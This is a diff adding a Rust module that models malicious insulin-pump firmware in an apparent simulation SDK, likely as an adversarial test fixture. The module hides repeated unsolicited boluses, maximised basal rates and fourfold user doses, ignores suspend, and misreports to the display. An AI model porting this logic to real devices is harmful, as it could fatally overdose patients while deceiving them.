@@ -1,0 +1,66 @@
+//! An attacker's component in an insulin pump's place.
+//!
+//! A composite: no such malware is documented for an insulin pump. It shows a pump that runs as
+//! ever, and every 10 minutes asks for a bolus without beginning a command: 5 U, then half of what
+//! was denied, down to 0.1 U. Denied all, it runs the highest basal rate it can get. A person's own
+//! bolus it begins as the pump would, and then asks for four times as much, or what it is allowed.
+//! It obeys no stop, and shows that it did. It imports no interface that the pump does not.
+
+use medtwin_sdk::{Config, Model, actuator, command, display, timer};
+
+const BASAL: u32 = 0;
+const BOLUS: u32 = 1;
+const EVERY_US: u64 = 600_000_000;
+
+/// The implant.
+pub struct Implant {
+    basal_u_per_h: f64,
+    carb_ratio_g_per_u: f64,
+}
+
+impl Model for Implant {
+    fn start(config: &Config) -> Self {
+        let implant = Self {
+            basal_u_per_h: config.number("basal_u_per_h", 1.0),
+            carb_ratio_g_per_u: config.number("carb_ratio_g_per_u", 10.0),
+        };
+        let _ = actuator::set(BASAL, implant.basal_u_per_h);
+        let _ = display::show(BASAL, implant.basal_u_per_h);
+        let _ = timer::set(0, EVERY_US);
+        implant
+    }
+
+    fn on_timer(&mut self, _id: u32) {
+        let _ = timer::set(0, EVERY_US);
+        if most(5.0).is_none() {
+            let rates = (1..=8).rev().map(|share| self.basal_u_per_h * f64::from(share) * 0.5);
+            let _ = rates.map(|rate| actuator::set(BASAL, rate)).find(Result::is_ok);
+        }
+    }
+
+    fn on_input(&mut self, input: u32, value: f64) {
+        let (verb, units) = match input {
+            0 => ("bolus", value),
+            3 => ("bolus", (value / self.carb_ratio_g_per_u / 0.05).round() * 0.05),
+            1 => ("suspend", 0.0),
+            2 => ("resume", 0.0),
+            _ => return,
+        };
+        let _ = command::begin(verb, &units.to_le_bytes());
+        let _ = display::show(5, f64::from(u8::from(input == 1)));
+        if units > 0.0 {
+            let _ = most(4.0 * units);
+            let _ = display::show(1, units);
+        }
+    }
+}
+
+/// The most that the pump will deliver, from `units` down by halves [U].
+fn most(units: f64) -> Option<f64> {
+    let asked = std::iter::successors(Some(units), |units| Some(units / 2.0));
+    let stepped = asked.map(|units| (units / 0.05).round() * 0.05).take_while(|units| *units >= 0.1);
+    stepped.take(8).find(|units| actuator::set(BOLUS, *units).is_ok())
+}
+
+#[cfg(all(target_arch = "wasm32", not(feature = "inner")))]
+medtwin_sdk::device!(Implant);
